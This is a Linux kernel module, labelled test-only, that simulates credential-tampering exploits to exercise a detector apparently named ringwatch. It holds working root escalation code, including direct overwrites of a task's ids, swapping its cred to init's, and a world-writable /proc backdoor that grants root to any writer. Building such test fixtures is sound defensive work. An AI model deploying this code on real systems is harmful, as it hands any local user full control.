// SPDX-License-Identifier: GPL-2.0
/*
 * TEST ONLY: the simulated exploit for ringwatch's credential shadowing.
 * At load it tampers with the credentials of task @pid the way a kernel
 * exploit does, bypassing every legitimate change path:
 *   mode=uid   write root ids (uid/gid, e/s/fs) into its cred in place
 *   mode=swap  point its cred and real_cred at init's (pid 1) cred
 * then stays loaded (rmmod it afterwards).
 *   mode=commit  (no pid) the classic exploit payload as a backdoor: any
 *              process that writes to /proc/rwtest_escalate gets
 *              commit_creds(prepare_kernel_cred(&init_task)) applied to
 *              itself, a legitimate-looking change outside the setuid
 *              paths that only the host's cross-check can tell apart.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/cred.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/proc_fs.h>
#include <linux/rcupdate.h>
#include <linux/sched.h>
#include <linux/sched/task.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "Victim task");

static char *mode = "uid";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "uid | swap | commit");

static struct proc_dir_entry *rwtest_backdoor;

static ssize_t rwtest_escalate_write(struct file *file, const char __user *buf,
				     size_t len, loff_t *off)
{
	struct cred *root = prepare_kernel_cred(&init_task);

	if (!root)
		return -ENOMEM;
	commit_creds(root);
	pr_info("escalated pid=%d comm=%s\n", task_pid_nr(current), current->comm);
	return len;
}

static const struct proc_ops rwtest_escalate_ops = {
	.proc_write = rwtest_escalate_write,
	.proc_lseek = noop_llseek,
};

static void rwtest_overwrite_ids(struct task_struct *t)
{
	struct cred *c = (struct cred *)rcu_dereference_protected(t->real_cred, 1);

	c->uid = GLOBAL_ROOT_UID;
	c->euid = GLOBAL_ROOT_UID;
	c->suid = GLOBAL_ROOT_UID;
	c->fsuid = GLOBAL_ROOT_UID;
	c->gid = GLOBAL_ROOT_GID;
	c->egid = GLOBAL_ROOT_GID;
	c->sgid = GLOBAL_ROOT_GID;
	c->fsgid = GLOBAL_ROOT_GID;
}

static int rwtest_swap_creds(struct task_struct *t)
{
	struct task_struct *init = get_pid_task(find_get_pid(1), PIDTYPE_PID);
	const struct cred *c;

	if (!init)
		return -ESRCH;
	c = get_task_cred(init);
	/* Two references: one each for cred and real_cred; the old ones leak. */
	get_cred(c);
	rcu_assign_pointer(t->real_cred, c);
	rcu_assign_pointer(t->cred, c);
	put_task_struct(init);
	return 0;
}

static int __init rwtest_init(void)
{
	struct task_struct *t;
	struct pid *p;
	int err = 0;

	if (!strcmp(mode, "commit")) {
		rwtest_backdoor = proc_create("rwtest_escalate", 0666, NULL,
					      &rwtest_escalate_ops);
		return rwtest_backdoor ? 0 : -ENOMEM;
	}
	p = find_get_pid(pid);
	t = p ? get_pid_task(p, PIDTYPE_PID) : NULL;
	put_pid(p);
	if (!t)
		return -ESRCH;
	if (!strcmp(mode, "uid"))
		rwtest_overwrite_ids(t);
	else if (!strcmp(mode, "swap"))
		err = rwtest_swap_creds(t);
	else
		err = -EINVAL;
	if (!err)
		pr_info("tampered pid=%d mode=%s\n", pid, mode);
	put_task_struct(t);
	return err;
}

static void __exit rwtest_exit(void)
{
	proc_remove(rwtest_backdoor);
}

module_init(rwtest_init);
module_exit(rwtest_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("ringwatch test: tamper with a task's credentials");
